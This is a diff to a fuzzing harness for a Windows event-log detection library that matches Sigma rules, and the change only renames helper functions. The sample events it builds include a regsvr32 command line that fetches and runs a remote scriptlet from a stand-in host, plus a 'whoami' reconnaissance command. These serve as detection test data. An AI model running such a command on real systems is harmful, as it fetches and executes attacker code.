@@ -14,24 +14,24 @@
 #include "evtxhunt/prefilter.h"
 #include "evtxhunt/sigma.h"
 
-static void _add(struct eh_event *ev, const char *name, const char *value)
+static void fuzz_rule_add(struct eh_event *ev, const char *name, const char *value)
 {
 	eh_event_add_field(ev, name, strlen(name), value, strlen(value));
 }
 
-static void _events(struct eh_event *sysmon, struct eh_event *security)
+static void fuzz_rule_events(struct eh_event *sysmon, struct eh_event *security)
 {
 	static const char provider[] = "Microsoft-Windows-Sysmon";
 	eh_event_init(sysmon);
 	eh_event_reset(sysmon);
 	eh_event_set_system(sysmon, EH_SYS_PROVIDER, provider, sizeof provider - 1);
-	_add(sysmon, "Image", "C:\\Windows\\System32\\regsvr32.exe");
-	_add(sysmon, "CommandLine", "regsvr32 /s /i:http://10.0.0.1/a.sct scrobj.dll -enc SQBFAFgA");
-	_add(sysmon, "ParentImage", "C:\\Windows\\explorer.exe");
-	_add(sysmon, "ProcessId", "4242");
-	_add(sysmon, "User", "NT AUTHORITY\\SYSTEM");
-	_add(sysmon, "Hashes", "SHA256=ABCDEF,IMPHASH=0123");
-	_add(sysmon, "DestinationIp", "10.1.2.3");
+	fuzz_rule_add(sysmon, "Image", "C:\\Windows\\System32\\regsvr32.exe");
+	fuzz_rule_add(sysmon, "CommandLine", "regsvr32 /s /i:http://10.0.0.1/a.sct scrobj.dll -enc SQBFAFgA");
+	fuzz_rule_add(sysmon, "ParentImage", "C:\\Windows\\explorer.exe");
+	fuzz_rule_add(sysmon, "ProcessId", "4242");
+	fuzz_rule_add(sysmon, "User", "NT AUTHORITY\\SYSTEM");
+	fuzz_rule_add(sysmon, "Hashes", "SHA256=ABCDEF,IMPHASH=0123");
+	fuzz_rule_add(sysmon, "DestinationIp", "10.1.2.3");
 	eh_event_finish(sysmon);
 	sysmon->event_id = 1;
 
@@ -39,9 +39,9 @@ static void _events(struct eh_event *sysmon, struct eh_event *security)
 	eh_event_init(security);
 	eh_event_reset(security);
 	eh_event_set_system(security, EH_SYS_PROVIDER, security_provider, sizeof security_provider - 1);
-	_add(security, "NewProcessName", "C:\\Windows\\System32\\cmd.exe");
-	_add(security, "CommandLine", "cmd /c whoami");
-	_add(security, "NewProcessId", "0x1a4");
+	fuzz_rule_add(security, "NewProcessName", "C:\\Windows\\System32\\cmd.exe");
+	fuzz_rule_add(security, "CommandLine", "cmd /c whoami");
+	fuzz_rule_add(security, "NewProcessId", "0x1a4");
 	eh_event_finish(security);
 	security->event_id = 4688;
 }
@@ -51,7 +51,7 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 	static struct eh_event sysmon, security;
 	static bool ready;
 	if (!ready) {
-		_events(&sysmon, &security);
+		fuzz_rule_events(&sysmon, &security);
 		ready = true;
 	}
 	struct eh_ruleset *rs = eh_ruleset_new();
